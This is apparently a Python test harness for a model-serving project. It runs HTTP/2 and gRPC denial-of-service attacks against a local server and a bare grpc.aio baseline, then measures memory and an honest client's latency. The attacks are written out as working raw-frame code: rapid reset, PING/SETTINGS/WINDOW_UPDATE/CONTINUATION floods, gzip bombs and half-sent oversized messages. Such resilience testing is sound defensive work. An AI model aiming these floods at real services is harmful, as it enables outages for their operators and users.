"""gRPC attacks of issues 25 and 46 against flowserve and a bare ``grpc.aio`` server, in one run.

For each attack, on each server: its RSS before, its peak during (VmHWM reset first) and
after, an honest client's ModelInfer latency meanwhile (median and max, grpcio's stub on
its own connection), and what the attacker got. The bare server (``--bare PORT``) is
grpcio with default options and the same message limit, answering ModelInfer with a
canned answer after parsing the request, and ModelStreamInfer one answer per message.
Run through ``bench_hostile.py --grpc`` (short: ``--seconds 3``); 127.0.0.1 only.
"""

from __future__ import annotations

import asyncio
import gzip
import pathlib
import socket
import statistics
import struct
import subprocess
import sys
import threading
import time

import grpc
import hpack
import numpy as np
import onnx
from onnx import TensorProto, helper

from flowserve.clients import grpc_client
from flowserve.protocol import protos
from flowserve.clients import http2_wire as wire

LIMIT = 64 << 20  # flowserve's default --max-request-bytes, given to the bare server too
WIDE = 4096


def write_wide(root: pathlib.Path) -> None:
    """Model ``wide``: FP32 [rows, 4096] -> the same (Identity), no batching."""
    graph = helper.make_graph(
        [helper.make_node("Identity", ["x"], ["y"])], "wide",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["rows", WIDE])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["rows", WIDE])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 21)], ir_version=10)
    (root / "wide" / "1").mkdir(parents=True)
    onnx.save(model, root / "wide" / "1" / "model.onnx")
    (root / "wide" / "config.json").write_text('{"max_batch_size": 0}')


# -- the bare grpc.aio server -----------------------------------------------------------------


async def _bare(port: int) -> None:
    answer = protos.ModelInferResponse(model_name="wide")
    answer.outputs.add(name="y", datatype="FP32", shape=[1, 1])
    answer.raw_output_contents.append(b"\0\0\0\0")
    canned = answer.SerializeToString()
    streamed = protos.ModelStreamInferResponse(infer_response=answer).SerializeToString()

    async def infer(raw, context):
        protos.ModelInferRequest.FromString(raw)
        return canned

    async def stream(requests, context):
        async for raw in requests:
            protos.ModelInferRequest.FromString(raw)
            yield streamed

    handlers = {"ModelInfer": grpc.unary_unary_rpc_method_handler(infer),
                "ModelStreamInfer": grpc.stream_stream_rpc_method_handler(stream)}
    server = grpc.aio.server(options=[("grpc.max_receive_message_length", LIMIT),
                                      ("grpc.so_reuseport", 0)])
    server.add_generic_rpc_handlers(
        (grpc.method_handlers_generic_handler(protos.SERVICE_NAME, handlers),))
    server.add_insecure_port(f"127.0.0.1:{port}")
    await server.start()
    await server.wait_for_termination()


# -- the honest client and the measurement ----------------------------------------------------


def _infer_stub(channel):
    return channel.unary_unary(f"/{protos.SERVICE_NAME}/ModelInfer",
                               request_serializer=protos.ModelInferRequest.SerializeToString,
                               response_deserializer=protos.ModelInferResponse.FromString)


def honest(address: str, stop: threading.Event, latencies: list, failures: list) -> None:
    request = grpc_client.encode_infer("wide", {"x": np.ones((1, WIDE), np.float32)}, None, "", "")
    with grpc.insecure_channel(address) as channel:
        call = _infer_stub(channel)
        while not (latencies or failures) or not stop.is_set():
            started = time.perf_counter()
            try:
                call(request, timeout=30)
                latencies.append(time.perf_counter() - started)
            except grpc.RpcError as error:
                failures.append(error.code().name)
            time.sleep(0.02)


def rss_mb(pid: int) -> tuple[float, float]:
    fields = dict(line.split(":", 1) for line in open(f"/proc/{pid}/status"))
    return int(fields["VmRSS"].split()[0]) / 1024, int(fields["VmHWM"].split()[0]) / 1024


def measure(name: str, pid: int, address: str, attack) -> None:
    with open(f"/proc/{pid}/clear_refs", "w") as handle:
        handle.write("5")
    before, _ = rss_mb(pid)
    stop, latencies, failures = threading.Event(), [], []
    prober = threading.Thread(target=honest, args=(address, stop, latencies, failures))
    prober.start()
    try:
        outcome = attack(address)
    except Exception as exc:  # noqa: BLE001 (an attacker cut off is a result)
        outcome = f"{type(exc).__name__}: {str(exc)[:60]}"
    stop.set()
    prober.join(120)
    after, peak = rss_mb(pid)
    p50, top = (statistics.median(latencies) * 1e3, max(latencies) * 1e3) if latencies else (0, 0)
    failed = f"; honest calls failed: {len(failures)} {sorted(set(failures))}" if failures else ""
    print(f"  {name:<46} {before:>5.0f} {peak:>6.0f} {after:>6.0f} MB "
          f"{p50:>7.1f} {top:>7.0f} ms  {outcome}{failed}", flush=True)


# -- the attacks (each bounded by SECONDS) ----------------------------------------------------

SECONDS = 3.0


class Raw:
    """A raw HTTP/2 connection that acknowledges the server's SETTINGS and PINGs."""

    def __init__(self, address: str):
        host, port = address.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.buffer = b""
        self.sock.sendall(wire.PREFACE + wire.settings_frame({}))

    def headers(self, stream: int, end_headers: bool = True, **extra) -> bytes:
        block = self.encoder.encode([
            (":method", "POST"), (":scheme", "http"), (":authority", "x"),
            (":path", f"/{protos.SERVICE_NAME}/ModelInfer"), ("te", "trailers"),
            ("content-type", "application/grpc"), *extra.items()])
        return wire.frame(wire.HEADERS, wire.END_HEADERS if end_headers else 0, stream, block)

    def pump(self, timeout_s: float = 0.0) -> list:
        """Frames read within ``timeout_s`` (SETTINGS and PINGs acknowledged)."""
        self.sock.settimeout(timeout_s or 0.001)
        frames = []
        try:
            chunk = self.sock.recv(1 << 20)
            if not chunk:
                raise ConnectionResetError("closed by the server")
            self.buffer += chunk
        except (TimeoutError, BlockingIOError):
            pass
        finally:
            self.sock.settimeout(10)
        while (got := wire.read_frame(self.buffer, 0)) is not None:
            kind, flags, stream, start, end = got
            payload, self.buffer = self.buffer[start:end], self.buffer[end:]
            if kind == wire.SETTINGS and not flags & wire.ACK:
                self.sock.sendall(wire.frame(wire.SETTINGS, wire.ACK, 0))
            elif kind == wire.PING and not flags & wire.ACK:
                self.sock.sendall(wire.frame(wire.PING, wire.ACK, 0, payload))
            frames.append((kind, flags, stream, payload))
        return frames


def _until(seconds: float):
    deadline = time.monotonic() + seconds
    return lambda: time.monotonic() < deadline


def unread_stream(address: str) -> str:
    """ModelStreamInfer: 64 KiB requests as fast as the server takes them, answers unread."""
    request = grpc_client.encode_infer("wide", {"x": np.ones((4, WIDE), np.float32)}, None, "", "")
    sent, going = [0], _until(SECONDS)

    def requests():
        while going() and sent[0] < 4000:
            sent[0] += 1
            yield request

    with grpc.insecure_channel(address) as channel:
        call = channel.stream_stream(f"/{protos.SERVICE_NAME}/ModelStreamInfer",
                                     request_serializer=protos.ModelInferRequest.SerializeToString)
        answers = call(requests(), timeout=SECONDS + 5)
        time.sleep(SECONDS)
        answers.cancel()
    return f"server took {sent[0] * len(request.SerializeToString()) / 2**20:.0f} MB"


def bombs(address: str, connections: int = 4) -> str:
    """``connections`` clients each sending ModelInfer messages that inflate 62 KB -> 63 MB
    (to ``sum``, whose answer is one number)."""
    x = np.zeros(((63 << 20) // (4 * WIDE), WIDE), np.float32)
    body = grpc_client.encode_infer("sum", {"x": x}, None, "", "")
    packed = gzip.compress(body.SerializeToString(), 6)
    statuses, going = [], _until(SECONDS)

    def one():
        raw, stream = Raw(address), 1
        while going():
            raw.sock.sendall(raw.headers(stream, **{"grpc-encoding": "gzip"})
                             + _data_frames(stream, struct.pack(">BL", 1, len(packed)) + packed))
            done = False
            while not done and going():
                for kind, flags, sid, payload in raw.pump(0.5):
                    if sid == stream and kind == wire.HEADERS and flags & wire.END_STREAM:
                        statuses.append(dict(raw.decoder.decode(payload)).get("grpc-status"))
                        done = True
            stream += 2
        raw.sock.close()

    threads = [threading.Thread(target=one) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    return f"{len(packed) >> 10} KB each; statuses {sorted(set(statuses))}, {len(statuses)} answered"


def _data_frames(stream: int, body: bytes) -> bytes:
    """``body`` as DATA frames of the default largest size, the last ending the stream."""
    size = wire.DEFAULT_FRAME_BYTES
    pieces = [body[i:i + size] for i in range(0, len(body), size)]
    return b"".join(wire.frame(wire.DATA, wire.END_STREAM if i == len(pieces) - 1 else 0,
                               stream, piece) for i, piece in enumerate(pieces))


def rapid_reset(address: str) -> str:
    raw, stream, going = Raw(address), 1, _until(SECONDS)
    try:
        while going():
            chunk = b"".join(raw.headers(stream + 2 * i) + wire.frame(
                wire.RST_STREAM, 0, stream + 2 * i, struct.pack(">L", wire.CANCEL)) for i in range(500))
            raw.sock.sendall(chunk)
            stream += 1000
            raw.pump()
    except OSError as exc:
        return f"cut off after {stream // 2} streams ({type(exc).__name__})"
    return f"{stream // 2} streams reset, not cut off"


def frame_flood(kind: int, payload: bytes = b"", stream: int = 0):
    def attack(address: str) -> str:
        raw, count, going = Raw(address), 0, _until(SECONDS)
        chunk = wire.frame(kind, 0, stream, payload) * 2000
        try:
            while going():
                raw.sock.sendall(chunk)
                count += 2000
                for got in raw.pump():
                    if got[0] == wire.GOAWAY:
                        return f"GOAWAY {struct.unpack('>L', got[3][4:8])[0]} after {count} frames"
        except OSError as exc:
            return f"cut off after {count} frames ({type(exc).__name__})"
        return f"{count} frames, not cut off"
    return attack


def continuation_flood(address: str) -> str:
    """One header block never ended: empty CONTINUATION frames for ever."""
    raw = Raw(address)
    raw.sock.sendall(raw.headers(1, end_headers=False))
    count, going, chunk = 0, _until(SECONDS), wire.frame(wire.CONTINUATION, 0, 1) * 5000
    try:
        while going():
            raw.sock.sendall(chunk)
            count += 5000
            for got in raw.pump():
                if got[0] in (wire.GOAWAY, wire.RST_STREAM):
                    return f"{'GOAWAY' if got[0] == wire.GOAWAY else 'RST_STREAM'} after {count} frames"
    except OSError as exc:
        return f"cut off after {count} frames ({type(exc).__name__})"
    return f"{count} frames, not cut off"


def half_sent(address: str, streams: int = 100) -> str:
    """``streams`` unary calls on one connection announcing 60 MiB messages, sent as far as
    the windows allow (the server's SETTINGS honoured: grpc-core offers 4 MiB a stream by
    default) and never finished."""
    raw, sent, going = Raw(address), 0, _until(SECONDS)
    window, windows, initial = 65535, {}, [65535]
    for index in range(streams):
        stream = 2 * index + 1
        raw.sock.sendall(raw.headers(stream) + wire.frame(wire.DATA, 0, stream,
                                                           struct.pack(">BL", 0, 60 << 20)))
        windows[stream], window = 65530, window - 5
    ended, zeros, left = 0, memoryview(bytes(1 << 20)), dict.fromkeys(windows, (60 << 20) - 1)
    try:
        while going():
            moved = 0
            for stream in list(windows):  # all each window allows, in frames of 16 KiB
                size = min(windows[stream], window, len(zeros), left[stream])  # never the last byte
                if size > 0:
                    left[stream] -= size
                    raw.sock.sendall(b"".join(wire.frame(wire.DATA, 0, stream, zeros[at:min(at + 16384, size)])
                                              for at in range(0, size, 16384)))
                    windows[stream] -= size
                    window -= size
                    moved += size
            sent += moved
            for kind, flags, stream, payload in raw.pump(0.0005 if moved else 0.01):
                if kind == wire.WINDOW_UPDATE:
                    if stream == 0:
                        window += struct.unpack(">L", payload)[0]
                    elif stream in windows:
                        windows[stream] += struct.unpack(">L", payload)[0]
                elif kind == wire.SETTINGS and not flags & wire.ACK:
                    _initial_window(payload, windows, initial)
                elif kind in (wire.RST_STREAM, wire.HEADERS) and stream in windows:
                    ended += 1
                    del windows[stream]
    except OSError as exc:
        return f"cut off after {sent >> 20} MB ({type(exc).__name__})"
    return f"server took {sent >> 20} MB; {ended} of {streams} calls ended"


def _initial_window(payload: bytes, windows: dict, initial: list) -> None:
    """A SETTINGS frame's INITIAL_WINDOW_SIZE applied to the open streams' windows."""
    for offset in range(0, len(payload) - 5, 6):
        key, value = struct.unpack(">HL", payload[offset:offset + 6])
        if key == 4:
            for stream in windows:
                windows[stream] += value - initial[0]
            initial[0] = value


def half_sent_connections(connections: int):
    """``connections`` connections, each one unary call of a half-sent 60 MiB message."""
    def attack(address: str) -> str:
        outcomes = []
        threads = [threading.Thread(target=lambda: outcomes.append(half_sent(address, 1)))
                   for _ in range(connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)
        taken = sum(int(outcome.split()[2]) for outcome in outcomes if outcome.startswith("server took"))
        ended = sum(outcome.endswith("1 of 1 calls ended") for outcome in outcomes)
        return f"server took {taken} MB; {ended} of {connections} calls ended"
    return attack


def large_messages(address: str) -> str:
    x = np.ones(((61 << 20) // (4 * WIDE), WIDE), np.float32)
    request = grpc_client.encode_infer("sum", {"x": x}, None, "", "")  # a one-number answer
    count, going = 0, _until(SECONDS)
    with grpc.insecure_channel(address, options=[("grpc.max_send_message_length", -1),
                                                 ("grpc.max_receive_message_length", -1)]) as channel:
        call = _infer_stub(channel)
        while going():
            call(request, timeout=60)
            count += 1
    return f"{count} x 61 MiB answered"


ATTACKS = [
    ("stream, answers never read", unread_stream),
    ("1 connection of gzip bombs", lambda address: bombs(address, 1)),
    ("4 connections of gzip bombs", bombs),
    ("rapid reset", rapid_reset),
    ("PING flood", frame_flood(wire.PING, b"12345678")),
    ("SETTINGS flood", frame_flood(wire.SETTINGS)),
    ("WINDOW_UPDATE flood", frame_flood(wire.WINDOW_UPDATE, struct.pack(">L", 1))),
    ("CONTINUATION flood", continuation_flood),
    ("100 half-sent 60 MiB messages, 1 connection", half_sent),
    ("10 connections x 1 half-sent 60 MiB message", half_sent_connections(10)),
    ("100 connections x 1 half-sent 60 MiB message", half_sent_connections(100)),
    ("61 MiB messages", large_messages),
]


def run(flowserve_pid: int, flowserve_address: str, seconds: float, free_port,
        only: str = "") -> None:
    """Every attack (whose name holds ``only``) on flowserve and on a bare grpc.aio server
    started here."""
    global SECONDS
    SECONDS = seconds
    port = free_port()
    bare = subprocess.Popen([sys.executable, str(pathlib.Path(__file__)), "--bare", str(port)])
    try:
        address = f"127.0.0.1:{port}"
        with grpc.insecure_channel(address) as channel:
            grpc.channel_ready_future(channel).result(timeout=60)
        print(f"\ngRPC attacks, {seconds:g} s each: server RSS before / peak / after, "
              "an honest client's ModelInfer p50 / max meanwhile")
        for name, attack in (entry for entry in ATTACKS if only in entry[0]):
            for server, pid, target in (("flowserve", flowserve_pid, flowserve_address),
                                        ("bare grpc.aio", bare.pid, address)):
                measure(f"{name} [{server}]", pid, target, attack)
    finally:
        bare.terminate()
        bare.wait(30)


if __name__ == "__main__" and sys.argv[1:2] == ["--bare"]:
    asyncio.run(_bare(int(sys.argv[2])))
